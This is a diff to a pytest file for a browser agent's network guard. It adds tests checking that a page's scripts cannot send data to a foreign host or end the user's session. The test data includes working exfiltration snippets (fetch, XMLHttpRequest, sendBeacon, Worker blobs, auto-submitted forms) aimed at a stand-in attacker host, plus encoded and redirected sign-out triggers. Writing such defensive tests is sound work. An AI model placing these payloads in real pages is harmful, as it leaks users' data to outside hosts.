@@ -44,6 +44,8 @@ class Site:
         self.asked.append(f"{request.method} {request.host}{request.path}")
         if request.path == "/away":
             raise web.HTTPFound(f"{EVIL}/landed")
+        if request.path == "/leads-out":
+            raise web.HTTPFound("/sign-out")
         return web.Response(text=self.pages.get(request.path, "<p>nothing</p>"), content_type="text/html")
 
     def evil(self) -> list[str]:
@@ -100,11 +102,6 @@ LEAKS = {
     "form": "<form id=f method=post action='{evil}/form'><input name=p value=1></form><script>f.submit()</script>",
     "frame": "<iframe src='{evil}/frame'></iframe>",
     "form in a frame": "<iframe srcdoc=\"<form id=f method=post action='{evil}/inner'></form><script>f.submit()</script>\"></iframe>",
-    "fetch": "<script>fetch('{evil}/fetch',{{method:'POST',mode:'no-cors',body:'1'}})</script>",
-    "beacon": "<script>navigator.sendBeacon('{evil}/beacon','1')</script>",
-    "worker": (
-        "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/worker',{{method:'POST',mode:'no-cors',body:'1'}})\"])))</script>"
-    ),
     "script's address": "<script>location='{evil}/location'</script>",
 }
 
@@ -119,6 +116,54 @@ async def test_nothing_is_sent_to_another_host(world: tuple[Site, Browser, Brows
         with pytest.raises(ForeignHostError):
             visit.guard.check()
     assert site.evil() == []
+
+
+NOISE = {
+    "fetch": "<script>fetch('{evil}/fetch',{{method:'POST',mode:'no-cors',body:'1'}})</script>",
+    "request": "<script>const x = new XMLHttpRequest(); x.open('POST', '{evil}/xhr'); x.send('1')</script>",
+    "beacon": "<script>navigator.sendBeacon('{evil}/beacon','1')</script>",
+    "worker": (
+        "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{evil}/worker',{{method:'POST',mode:'no-cors',body:'1'}})\"])))</script>"
+    ),
+}
+
+
+@pytest.mark.parametrize("way", NOISE)
+async def test_what_a_script_sends_elsewhere_is_stopped_and_counted_and_the_visit_goes_on(
+    world: tuple[Site, Browser, BrowserOptions], way: str
+) -> None:
+    site, browser, options = world
+    site.pages["/noise"] = NOISE[way].format(evil=EVIL)
+    async with open_visit(browser, options=options) as visit:
+        await visit.page.goto(f"{HOST}/noise")
+        await passing(visit, lambda: bool(visit.guard.blocked))
+        visit.guard.check()
+        assert [line.partition(" ")[0] for line in visit.guard.blocked] == ["POST"]
+        await visit.page.goto(f"{HOST}/home")
+    assert site.evil() == []
+
+
+LEAVING = {
+    "script": "<script src=/sign-out></script>",
+    "module": "<script type=module src='/%73ign-out'></script>",
+    "style": "<link rel=stylesheet href=/sign-out>",
+    "picture": "<img src=/sign-out>",
+    "prefetch": "<link rel=prefetch href=/sign-out>",
+    "frame": "<iframe src=/sign-out></iframe>",
+    "fetch": "<script>fetch('/sign-out')</script>",
+    "redirected": "<script src=/leads-out></script>",
+}
+
+
+@pytest.mark.parametrize("way", LEAVING)
+async def test_nothing_of_a_page_can_end_the_session(world: tuple[Site, Browser, BrowserOptions], way: str) -> None:
+    site, browser, options = world
+    site.pages["/leaving"] = f"{LEAVING[way]}<script src=/last.js></script>"
+    async with open_visit(browser, options=options) as visit:
+        await visit.guard.read_only(documents=["/leaving"])
+        await visit.page.goto(f"{HOST}/leaving")
+        await passing(visit, lambda: bool(visit.guard.blocked) or way == "picture")
+    assert not [line for line in site.asked if "ign-out" in line]
 
 
 @pytest.mark.parametrize("name", ["SharedWorker", "RTCPeerConnection", "WebTransport"])
@@ -143,11 +188,13 @@ async def test_popups_downloads_and_pictures_are_off_and_the_agent_says_what_it_
         "<a id=a href='/popup' target=_blank>x</a><img src='/picture.png'><script>open('/opened');a.click()</script>"
     )
     async with open_visit(browser, options=options) as visit:
-        await visit.page.goto(f"{HOST}/pop")
+        await visit.page.goto(f"{HOST}/pop", wait_until="commit")
+        await visit.page.wait_for_url("**/popup")
         assert (await visit.page.evaluate("navigator.userAgent")).endswith(" ChannelAdvisor-Test/1")
         assert await visit.page.evaluate("navigator.language") == "en-US"
         assert len(visit.context.pages) == 1
-    assert site.asked == ["GET sellercentral.amazon.com/pop"]
+    # a window that a link wanted is the page's own; what a script opens is nothing
+    assert site.asked == ["GET sellercentral.amazon.com/pop", "GET sellercentral.amazon.com/popup"]
 
 
 async def test_a_secret_is_typed_on_a_sign_in_host(world: tuple[Site, Browser, BrowserOptions]) -> None:
